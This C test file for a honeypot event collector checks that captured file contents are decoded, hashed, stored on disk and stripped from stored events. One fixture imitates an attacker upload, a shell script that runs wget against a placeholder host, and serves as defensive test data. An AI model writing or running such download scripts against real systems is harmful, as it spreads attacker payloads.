/* File bytes carried in events (content_b64): the collector stores them
 * once under files/ab/cd/<sha256>, registers a ttylog as an asciicast,
 * strips them from what the store and the sinks see, and keeps an event
 * whose bytes do not match its sha256 without them (counted). */
#include <sys/stat.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <openssl/evp.h>

#include "ap/err.h"
#include "ap/event.h"
#include "ap/util.h"
#include "collector.h"
#include "collector_content.h"
#include "files.h"
#include "harness.h"
#include "store.h"

static char dir[] = "/tmp/ap-content-XXXXXX";
static int sunk_with_content, sunk;

static void
sink(void *ctx, const json_t *ev)
{
    (void)ctx;
    sunk++;
    if (json_object_get(ev, "content_b64") || json_object_get(ev, "content"))
        sunk_with_content++;
}

static const char cast[] =
    "{\"version\": 2, \"width\": 80, \"height\": 24}\n"
    "[0.5, \"o\", \"$ \"]\n"
    "[1.25, \"o\", \"uname -a\\r\\nLinux \\u00e9\\r\\n\"]\n";

/* One apiary.events payload for event ev (id, ts, sensor filled). */
static char *
payload(json_t *ev, int seq)
{
    char id[AP_EVENT_ID_LEN + 1];
    char *s;

    ap_event_id_derive(id, 1700000000000000LL, &seq, sizeof(seq));
    json_object_set_new(ev, "id", json_string(id));
    json_object_set_new(ev, "seq", json_integer(seq));
    json_object_set_new(ev, "ts", json_string("2026-11-29T07:00:00Z"));
    json_object_set_new(ev, "sensor", json_string("s1"));
    json_object_set_new(ev, "honeypot", json_string("ssh"));
    json_object_set_new(ev, "session", json_string("sess1"));
    json_object_set_new(ev, "src_ip", json_string("198.51.100.7"));
    s = json_dumps(ev, JSON_COMPACT);
    json_decref(ev);
    return s;
}

static void
submit(struct ap_collector *c, char *p)
{
    ASSERT(p != NULL);
    ASSERT_EQ(ap_collector_submit(c, "s1", "apiary.events", p, strlen(p),
                                  ap_now_us()),
              0);
    free(p);
}

static int
file_is(const char *sha, const void *want, size_t n)
{
    char path[512], buf[4096];
    struct stat sb;
    FILE *f;
    size_t got;

    snprintf(path, sizeof(path), "%s/files/%.2s/%.2s/%s", dir, sha, sha + 2,
             sha);
    if (stat(path, &sb) != 0 || (sb.st_mode & 0111) != 0 ||
        (size_t)sb.st_size != n)
        return 0;
    if ((f = fopen(path, "rb")) == NULL)
        return 0;
    got = fread(buf, 1, sizeof(buf), f);
    fclose(f);
    return got == n && memcmp(buf, want, n) == 0;
}

TEST(b64_decode)
{
    unsigned char *b = NULL;

    ASSERT_EQ(ap_b64_decode("aGk=", 4, 10, &b), 2);
    ASSERT_MEM_EQ(b, "hi", 2);
    free(b);
    ASSERT_EQ(ap_b64_decode("aGkh", 4, 10, &b), 3);
    free(b);
    ASSERT_EQ(ap_b64_decode("", 0, 10, &b), 0);
    free(b);
    ASSERT_EQ(ap_b64_decode("aGk", 3, 10, &b), AP_EINVAL);
    ASSERT_EQ(ap_b64_decode("a!k=", 4, 10, &b), AP_EINVAL);
    ASSERT_EQ(ap_b64_decode("aGkhaGkh", 8, 5, &b), AP_ETOOBIG);
}

TEST(content_is_stored_registered_and_stripped)
{
    char url[256], err[256], files[300], sha[65], usha[65];
    struct ap_collector_opts o;
    struct ap_collector *c;
    struct ap_store *st;
    struct ap_filter f;
    json_t *ev, *evs = NULL, *fl = NULL, *s, *row;
    const char *up = "#!/bin/sh\nwget http://x/y\n";
    size_t i;
    char *dump;
    int asciicast = 0;

    snprintf(url, sizeof(url), "sqlite:%s/events.db", dir);
    ASSERT_EQ(ap_store_open(url, &st, err, sizeof(err)), 0);
    snprintf(files, sizeof(files), "%s/files", dir);
    memset(&o, 0, sizeof(o));
    o.store = st;
    o.files_dir = files;
    ASSERT_EQ(ap_collector_new(&o, &c), 0);
    ASSERT_EQ(ap_collector_add_sink(c, sink, NULL), 0);

    /* a ttylog as the contract says: content_b64 */
    ap_sha256_hex(cast, strlen(cast), sha);
    ev = json_pack("{s:s, s:s, s:i, s:f, s:i, s:i}", "type", "ttylog",
                   "sha256", sha, "size", (int)strlen(cast), "duration",
                   1.25, "width", 80, "height", 24);
    ASSERT_EQ(ap_event_set_b64(ev, "content_b64", cast, strlen(cast),
                               1 << 20),
              0);
    submit(c, payload(ev, 1));
    /* an upload whose text content came through ap_event_set_bytes */
    ap_sha256_hex(up, strlen(up), usha);
    ev = json_pack("{s:s, s:s, s:i}", "type", "upload", "sha256", usha,
                   "size", (int)strlen(up));
    ASSERT_EQ(ap_event_set_bytes(ev, "content", up, strlen(up)), 0);
    submit(c, payload(ev, 2));
    /* a download whose bytes do not match its hash */
    ev = json_pack("{s:s, s:s, s:s}", "type", "download", "sha256", usha,
                   "url", "http://x/y");
    ASSERT_EQ(ap_event_set_b64(ev, "content_b64", "other", 5, 100), 0);
    submit(c, payload(ev, 3));
    ap_collector_flush(c);

    ASSERT(file_is(sha, cast, strlen(cast)));
    ASSERT(file_is(usha, up, strlen(up)));
    ASSERT_EQ(sunk, 3);
    ASSERT_EQ(sunk_with_content, 0);
    s = ap_collector_stats(c);
    ASSERT_EQ(json_integer_value(json_object_get(s, "content_stored")), 2);
    ASSERT_EQ(json_integer_value(json_object_get(s, "content_mismatch")), 1);
    json_decref(s);

    memset(&f, 0, sizeof(f));
    ASSERT_EQ(ap_store_events(st, &f, 10, 0, 0, &evs), 0);
    ASSERT_EQ(json_array_size(evs), 3);
    json_array_foreach(evs, i, row)
    {
        dump = json_dumps(row, JSON_COMPACT);
        ASSERT(dump != NULL);
        ASSERT(strstr(dump, "content") == NULL);
        free(dump);
    }
    json_decref(evs);
    ASSERT_EQ(ap_store_files(st, &f, 10, 0, &fl), 0);
    json_array_foreach(fl, i, row)
    {
        const char *ft = json_string_value(json_object_get(row, "filetype"));
        if (strcmp(json_string_value(json_object_get(row, "sha256")), sha) ==
                0 &&
            ft != NULL && strcmp(ft, "asciicast") == 0)
            asciicast = 1;
    }
    json_decref(fl);
    ASSERT(asciicast);
    ap_collector_free(c);
    ap_store_close(st);
}

int
main(void)
{
    char cmd[300];
    int rc;

    if (mkdtemp(dir) == NULL)
        return 1;
    RUN(b64_decode);
    RUN(content_is_stored_registered_and_stripped);
    rc = DONE();
    snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
    if (system(cmd) != 0)
        return 1;
    return rc;
}
